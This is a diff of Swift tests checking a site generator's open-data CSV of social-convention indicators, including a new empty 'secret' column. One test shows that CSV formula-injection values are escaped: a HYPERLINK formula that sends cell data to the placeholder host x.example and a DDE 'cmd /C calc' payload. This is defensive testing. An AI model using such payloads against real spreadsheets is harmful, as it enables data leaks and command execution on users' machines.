@@ -77,10 +77,12 @@ struct RenderingOpenDataTests {
         let site = try await RenderingFixture.site()
         let text = try #require(site["donnees/indicateurs.csv"])
         let rows = text.components(separatedBy: "\r\n")
-        #expect(rows[0] == "convention,axe,objectif,indicateur,libelle,unite,annee,reference,cible,resultat")
-        #expect(rows.contains("beta-2015,accueil,horaires,places-horaires,Places ouvertes avant 7 h 30 ou après 19 h,places,2016,,35,30"))
-        #expect(rows.contains("beta-2015,accueil,horaires,places-horaires,Places ouvertes avant 7 h 30 ou après 19 h,places,2014,20,,"))
-        #expect(rows.contains("alpha-2014,droits,a2-o1,delai,Délai moyen de traitement d'un dossier,jours,2015,,,16.5"))
+        #expect(rows[0] == "convention,axe,objectif,indicateur,libelle,unite,annee,reference,cible,resultat,secret")
+        #expect(rows.contains("beta-2015,accueil,horaires,places-horaires,Places ouvertes avant 7 h 30 ou après 19 h,places,2016,,35,30,"))
+        #expect(rows.contains("beta-2015,accueil,horaires,places-horaires,Places ouvertes avant 7 h 30 ou après 19 h,places,2014,20,,,"))
+        #expect(rows.contains("alpha-2014,droits,a2-o1,delai,Délai moyen de traitement d'un dossier,jours,2015,,,16.5,"))
+        // Familles at 0: published (nobody to identify); the secret column empty.
+        #expect(rows.contains("beta-2015,a2,a2-o1,a2-o1-i1,Familles accueillies au lieu d'accueil enfants-parents,familles,2014,0,,,"))
         // places-horaires has 2014, 2015, 2016, 2018: four rows.
         #expect(rows.filter { $0.hasPrefix("beta-2015,accueil,horaires,places-horaires,") }.count == 4)
         #expect(rows.last == "")
@@ -103,7 +105,7 @@ struct RenderingOpenDataTests {
         defer { fx.cleanup() }
         let site = try await RenderingFixture.site(fx.root)
         let rows = try #require(site["donnees/indicateurs.csv"]).components(separatedBy: "\r\n")
-        #expect(rows.contains("roubaix-2014,accueil,a1-o1,places-eaje,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Clic\"\")\",\"'+cmd|' /C calc'!A0\",2013,-12,,"),
+        #expect(rows.contains("roubaix-2014,accueil,a1-o1,places-eaje,\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"Clic\"\")\",\"'+cmd|' /C calc'!A0\",2013,-12,,,"),
                 "\(rows)")
         #expect(rows.contains { $0.hasPrefix("roubaix-2014,accueil,a1-o1,a1-o1-i2,\"'@SUM(1+1)\",%,2013,2.7,") }, "\(rows)")
         for (text, field) in [("=1+1", "\"'=1+1\""), ("+33 3 20", "\"'+33 3 20\""), ("-5", "\"'-5\""), ("@x", "\"'@x\""),
